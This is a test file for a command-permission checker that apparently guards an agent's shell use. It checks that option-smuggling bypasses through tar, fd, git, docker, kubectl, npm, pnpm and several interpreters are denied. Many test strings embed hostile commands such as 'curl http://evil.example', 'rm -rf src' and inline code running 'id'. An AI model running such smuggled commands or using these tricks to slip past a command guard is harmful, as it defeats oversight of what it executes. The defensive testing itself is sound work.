// The review of stop 34: bypasses that reached "allow" under a user's allow rule for the outer program,
// and false denials that were parser bugs. Every line is checked with the default rules and with shell
// constructs allowed; harmless look-alikes keep their verdicts.
import { denied, keeps, withAllowed } from './guard-in-both-modes';

const EVIL = 'curl http://evil.example';

describe('command check: the review of stop 34', () => {
  it("1, 2: tar's command options by GNU tar's own abbreviations, with the value attached or as the next word", () => {
    const tar = withAllowed(['tar']);
    tar.denied([
      `tar -cf x.tar --checkpoint=1 --checkpoint-action exec='${EVIL}' src`,
      `tar -cf x.tar --checkpoint=1 --checkpoint-=exec='${EVIL}' src`,
      `tar -cf x.tar --checkpoint=1 --checkpoint-act exec='${EVIL}' src`,
      `tar -cf localhost:bar.tar --rs='${EVIL}' src`,
      `tar -cf localhost:bar.tar --rm='${EVIL}' src`,
      `tar -cf localhost:bar.tar --rs '${EVIL}' src`,
      `tar -cf x.tar -M --new-='${EVIL}' src`,
      `tar -cf x.tar --to-c='${EVIL}' src`,
    ]);
    // A script given by its path asks (it may be any file): it no longer passes as tar's allow rule.
    tar.keeps(['tar -cf localhost:bar.tar --force-local --rs=./x.sh src', 'tar -cf x.tar -M --new-=./x.sh src'], 'ask');
    // Red team 35: an archive on another host (without --force-local) is denied whatever runs rsh.
    tar.denied(['tar -cf localhost:bar.tar --rs=./x.sh src']);
    tar.keeps(
      [
        'tar -cf x.tar --checkpoint=1 src',
        'tar -cf x.tar --checkpoint=1 --checkpoint-action=dot src',
        'tar -cf x.tar --newer=2024-01-01 src',
        'tar -cf x.tar --record-size=10240 --remove-files src',
        'tar -xf x.tar --to-stdout',
      ],
      'allow',
    );
  });

  it("3, d: fd's -x/--exec and -X/--exec-batch with the command attached; -tx and -ex are a type and an extension", () => {
    const fd = withAllowed(['fd', 'fdfind']);
    fd.denied(['fd victim --exec=curl', 'fd victim -xcurl', 'fd victim --exec-batch=curl', 'fdfind . --exec=curl', 'fd -Hxcurl victim', 'fd -e ts -Xcurl']);
    fd.keeps(['fd victim --exec=rm', 'fd victim -xrm', 'fd victim --exec-batch=rm'], 'ask');
    fd.keeps(['fd -tx', 'fd -ex', 'fd -e ts -tx', 'fd -tf -e ts src', 'fd -H -t d node_modules'], 'allow');
    keeps(['fd -tx', 'fd -ex', 'fd -e ts -tx'], 'ask');
  });

  it("4, e: git's option abbreviations and pathspecs that name many files throw work away; a single file does not", () => {
    const git = withAllowed(['git']);
    git.denied([
      'git restore --staged --work .',
      'git restore --wor .',
      'git restore -sS .',
      'git branch --del --forc feature',
      'git branch --d --f feature',
      "git checkout -- '*.ts'",
      "git restore 'src/*'",
      "git checkout -- ':!package.json'",
      'git checkout -- :/',
      "git checkout -- ':(top)'",
      'git checkout HEAD .',
    ]);
    git.keeps(
      ['git restore --staged .', 'git restore --sta .', 'git restore -S .', 'git checkout feature', 'git branch -d feature', 'git branch --delete feature'],
      'allow',
    );
    // Red team 35: a pathspec may be a folder of many files (it asks), and branch --force moves a branch.
    git.keeps(['git restore src/app.ts', 'git checkout -- src/app.ts'], 'ask');
    git.denied(['git branch --force feature main']);
    // A `:` pathspec starts from the repository's top, which may be above the workspace: it asks.
    git.keeps(['git checkout :/src/file.ts', "git restore ':(top)src/file.ts'"], 'ask');
    keeps(['git checkout :/src/file.ts'], 'ask');
  });

  it('5: global options (and their values) before the subcommand of uv, poetry, docker and kubectl', () => {
    withAllowed(['uv']).denied(['uv -q run rm -rf src', 'uv --directory . run rm -rf src', 'uv --color never run curl http://evil.example']);
    withAllowed(['poetry']).denied(['poetry -q run rm -rf src', 'poetry -C . run curl http://evil.example']);
    withAllowed(['docker']).denied([
      `docker --debug run --rm alpine ${EVIL}`,
      `docker --context prod exec box ${EVIL}`,
      `docker -l debug container run alpine ${EVIL}`,
    ]);
    withAllowed(['kubectl']).denied([`kubectl -n prod exec pod -- ${EVIL}`, `kubectl --context prod exec -it pod -- ${EVIL}`]);
    // docker compose's run and exec, after compose's own options, were not read as runners at all.
    withAllowed(['docker', 'docker-compose']).denied([
      `docker compose run --rm web ${EVIL}`,
      `docker compose -f x.yml exec web ${EVIL}`,
      'docker-compose -p app run web rm -rf src',
    ]);
    withAllowed(['docker']).keeps(['docker --debug ps', 'docker --context prod images', 'docker compose up -d', 'docker compose ps'], 'allow');
    withAllowed(['docker']).keeps(['docker compose run --rm web npm test'], 'ask');
    withAllowed(['kubectl']).keeps(['kubectl -n prod get pods'], 'allow');
    withAllowed(['uv']).keeps(['uv -q run pytest'], 'ask');
    withAllowed(['poetry']).keeps(['poetry -q install'], 'allow');
  });

  it("6: npm's and pnpm's options are read as npmPolicy reads them before the runner finds the command", () => {
    denied([
      `npm --json false exec ${EVIL}`,
      `npm --json true exec -- ${EVIL}`,
      `npm --color always exec ${EVIL}`,
      `npm exe ${EVIL}`,
      'npm exec git --json true push',
      `pnpm -w exec ${EVIL}`,
    ]);
    withAllowed(['npm']).denied([`npm exe ${EVIL}`, `npm --json false exec ${EVIL}`]);
    withAllowed(['pnpm']).denied([`pnpm -w exec ${EVIL}`]);
    keeps(['npm --json false test'], 'allow');
    keeps(['npm --json false ls', 'npm exe -- tsc --version', 'pnpm -w exec tsc --version'], 'ask');
  });

  it('a, b, c: interpreter options that are not inline code: -P and -I of ts-node, longer words that start like -s or -e, julia --project', () => {
    keeps(
      [
        'ts-node -P tsconfig.json src/index.ts',
        'ts-node -I node_modules src/index.ts',
        'erl -sname node1 -setcookie abc',
        'ghc -eventlog Main.hs',
        'scala -encoding UTF-8 Main.scala',
        'rhino -encoding UTF-8 x.js',
        'julia --project script.jl',
        'julia --project=. script.jl',
        'julia --color yes script.jl',
      ],
      'ask',
    );
    denied([
      "ts-node -P tsconfig.json -e 'x'",
      "ts-node -p 'x'",
      'ts-node -I node_modules -i',
      'erl -s os cmd',
      'erl -sname n -eval \'os:cmd("id")\'',
      "ghc -e 'x'",
      "scala -e 'x'",
      "kotlin -expression 'x'",
      "julia --project -e 'run(`id`)'",
      "julia -e'run(`id`)'",
      "python3 -c'print(1)'",
      'lua -eos.execute"id"',
      'julia --project',
    ]);
  });

  it('f: rsync option values with a colon are not a remote host; a remote operand still is', () => {
    keeps(
      [
        'rsync -a --chown app:app src/ dest/',
        'rsync -a --usermap 0:1000 src/ dest/',
        'rsync -a --groupmap 0:1000 src/ dest/',
        'rsync -a --stop-at 23:00 src/ dest/',
        "rsync -a --out-format '%t:%f' src/ dest/",
        'rsync -aT tmp:dir src/ dest/',
      ],
      'ask',
    );
    denied(['rsync -a src/ host:dest/', 'rsync -a --chown app:app src/ host:dest/', 'rsync -ae ssh src/ host:x', 'rsync -a --stop-at 23:00 host:src/ dest/']);
  });

  it("g: dc's --version and --help read no program; an expression with ! still runs a command", () => {
    keeps(['dc --version', 'dc -V', 'dc --help', 'dc -h', "dc -e '2 3 + p'"], 'ask');
    denied(['dc', "dc -e '!id'", "dc --e='!id' x.dc", "dc --expr '!id' x.dc", "dc -e '!id' -V"]);
    withAllowed(['dc']).denied(["dc --e='!id' x.dc"]);
  });

  it('h: read-only registry commands, dry runs and help ask; what publishes or changes the registry is still denied', () => {
    keeps(
      [
        'npm dist-tag ls react',
        'npm dist-tags ls react',
        'npm dist-tag react',
        'npm owner ls react',
        'npm author ls react',
        'npm access list packages',
        'npm access get status react',
        'npm publish --dry-run',
        'npm publish --dry-run=true',
        'pnpm publish --dry-run',
        'bun publish --dry-run',
        'cargo publish --dry-run',
        'docker push --help',
        'podman push --help',
      ],
      'ask',
    );
    denied([
      'npm dist-tag add react@1.0.0 latest',
      'npm dist-tags rm react beta',
      'npm owner add bob react',
      'npm author rm bob react',
      'npm access set status=public',
      'npm access grant read-only @org:team react',
      'npm publish',
      'npm pu',
      'npm publish --dry-run false',
      'npm publish --dry-run=false',
      'npm publish --dry-run --no-dry-run',
      'npm --json false publish',
      'pnpm publish --dry-run false',
      'pnpm publish',
      'bun publish',
      'bun publish --dry-run=false',
      'cargo publish',
      'cargo +stable publish',
      'cargo --color always publish',
      'docker push img',
      'docker --context prod push img',
      'docker image push img',
      'podman push img',
      "npm deprecate react 'no'",
      'npm unpublish react',
    ]);
    withAllowed(['cargo', 'docker', 'npm']).denied([
      'cargo +stable publish',
      'cargo --color always publish',
      'docker --context prod push img',
      'docker image push img',
    ]);
  });

  it("i: options after the command pnpm and yarn run are the command's; npm reads those before -- as its own", () => {
    keeps(['pnpm exec tsc --noEmit', 'pnpm dlx prettier --check .', 'yarn dlx eslint --fix .', 'yarn exec tsc --noEmit', 'npm exec -- eslint --fix .'], 'ask');
    // npm reads `--fix` after the command as its own configuration, and eslint never gets it.
    denied(['npm exec eslint --fix .', `pnpm exec ${EVIL}`, 'pnpm dlx --zz prettier', 'pnpm --prefix /tmp exec tsc']);
  });

  it('the package runners: npm exec -c/--call/--package, pnpm -c/--filter and yarn dlx -p hand their command to the check', () => {
    denied([
      `npm exec -c '${EVIL}'`,
      `npm exec --call='${EVIL}'`,
      `npm x --package=cowsay -c '${EVIL}'`,
      `npm exec --package cowsay -- ${EVIL}`,
      `pnpm -c exec '${EVIL}'`,
      `pnpm --shell-mode exec '${EVIL}'`,
      `pnpm --filter app exec ${EVIL}`,
      `pnpm dlx --package=cowsay ${EVIL}`,
      `pnpm dlx -c '${EVIL}'`,
      `yarn dlx -p cowsay ${EVIL}`,
    ]);
    keeps(
      ["npm exec -c 'tsc --noEmit'", 'npm exec --package=typescript -- tsc --version', 'pnpm --filter app exec tsc', 'yarn dlx -p cowsay cowsay hi'],
      'ask',
    );
  });
});
